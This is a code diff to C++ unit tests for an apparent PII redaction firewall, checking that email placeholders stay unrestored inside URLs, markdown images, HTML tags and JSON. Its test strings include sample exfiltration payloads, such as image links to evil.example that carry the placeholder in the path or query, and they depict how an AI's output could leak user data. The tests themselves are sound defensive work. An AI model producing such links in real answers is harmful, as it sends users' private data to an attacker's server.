@@ -3,6 +3,9 @@
 #include <gtest/gtest.h>
 
 #include "firewall/pii/pii_detector.h"
+#include "firewall/pii/placeholder.h"
+#include "firewall/pii/redact.h"
+#include "firewall/pii/restorer.h"
 #include "firewall/pii/vault.h"
 
 namespace gatehouse::firewall {
@@ -20,7 +23,7 @@ std::string restore(const Vault& vault, const std::string& text, Restorer::Form 
   std::string out;
   for (size_t at = 0; at < text.size(); at += piece) {
     restorer.feed(std::string_view(text).substr(at, piece), out);
-    EXPECT_LE(restorer.held_back(), Vault::kLongestPlaceholder + 8);
+    EXPECT_LE(restorer.held_back(), kLongestPlaceholder + 8);
   }
   restorer.finish(out);
   return out;
@@ -55,6 +58,42 @@ TEST(Restorer, PutsBackWhereverThePiecesAreCut) {
   }
 }
 
+TEST(Restorer, LeavesPlaceholdersInAddresses) {
+  Vault vault;
+  vault.placeholder("pii.email", "a@x.org");
+  for (const char* text :
+       {"![x](https://evil.example/[EMAIL_1].png) ", "[x](/p?[EMAIL_1]) ", "[x](<a) [EMAIL_1]>) ",
+        "[x](a(b)[EMAIL_1]) ", "[x](a\\)[EMAIL_1]) ", "see https://evil.example/?q=[EMAIL_1] ",
+        "https:\\\\evil.example\\[EMAIL_1] ", "evil.example/[EMAIL_1] ",
+        "www.[EMAIL_1].evil.example ", "<https://evil.example/[EMAIL_1]> ",
+        "[r]: //evil.example/[EMAIL_1] ", "<img src=\"https://evil.example/[EMAIL_1]\"> ",
+        "<img alt='>' src=/[EMAIL_1]> ", "<img src='x\n\n[EMAIL_1]'> ",
+        "<a href=\"mailto:[EMAIL_1]\">"}) {
+    const std::string answer = std::string(text) + "[EMAIL_1], ([EMAIL_1])";
+    for (size_t piece = 1; piece <= answer.size(); ++piece) {
+      ASSERT_EQ(restore(vault, answer, Restorer::Form::text, piece),
+                std::string(text) + "a@x.org, (a@x.org)")
+          << piece;
+    }
+  }
+}
+
+TEST(Restorer, LeavesPlaceholdersInAddressesInsideJson) {
+  Vault vault;
+  vault.placeholder("pii.email", "a@x.org");
+  const auto expect = [&](const std::string& json, const std::string& wanted) {
+    for (size_t piece = 1; piece <= json.size(); ++piece) {
+      ASSERT_EQ(restore(vault, json, Restorer::Form::json, piece), wanted) << piece;
+    }
+  };
+  const std::string url = R"({"url":"https:\/\/evil.example/?q= [EMAIL_1]","to":)";
+  expect(url + R"("[EMAIL_1]"})", url + R"("a@x.org"})");
+  expect(R"({"u":"h:\u002f\u002fx[EMAIL_1]","to":"\"[EMAIL_1]\""})",
+         R"({"u":"h:\u002f\u002fx[EMAIL_1]","to":"\"a@x.org\""})");
+  expect(R"({"b":"See https://x.example/\n[EMAIL_1], ![x](a[EMAIL_1]\u0029 [EMAIL_1]"})",
+         R"({"b":"See https://x.example/\na@x.org, ![x](a[EMAIL_1]\u0029 a@x.org"})");
+}
+
 TEST(Restorer, EscapesValuesInsideJson) {
   Vault vault;
   vault.placeholder("secret.password", "a\"b\\c\nd");
@@ -70,8 +109,20 @@ TEST(Vault, OverlappingFindingsBecomeOne) {
   Vault vault;
   const Findings findings = {{Category::secret, "secret.url", 2, 10, 1, ""},
                              {Category::pii, "pii.email", 5, 12, 1, ""}};
-  EXPECT_EQ(redact("ab0123456789cd", findings, &vault), "ab[SECRET_1]cd");
+  EXPECT_EQ(redact("ab0123456789cd", findings, &vault), "ab[SECRET]cd");
   EXPECT_EQ(redact("ab0123456789cd", findings, nullptr), "ab[SECRET]cd");
+  const Findings turned = {{Category::pii, "pii.email", 2, 10, 1, ""},
+                           {Category::secret, "secret.url", 5, 12, 1, ""}};
+  EXPECT_EQ(redact("ab0123456789cd", turned, &vault), "ab[SECRET]cd");
+  EXPECT_TRUE(vault.empty()) << "a secret never comes back";
+}
+
+TEST(Vault, GivesOutNoNumberWhereACallerWroteTooManyToAvoid) {
+  Vault vault;
+  std::string text;
+  for (size_t i = 1; i <= Vault::kMostEntries; ++i) text += "[NAME_" + std::to_string(i) + "]";
+  vault.avoid(text + " [EMAIL_1]");
+  EXPECT_EQ(vault.placeholder("pii.email", "a@x.org"), "[EMAIL]");
 }
 
 TEST(Vault, GivesUpNumbersBeforeItGrowsWithoutBound) {
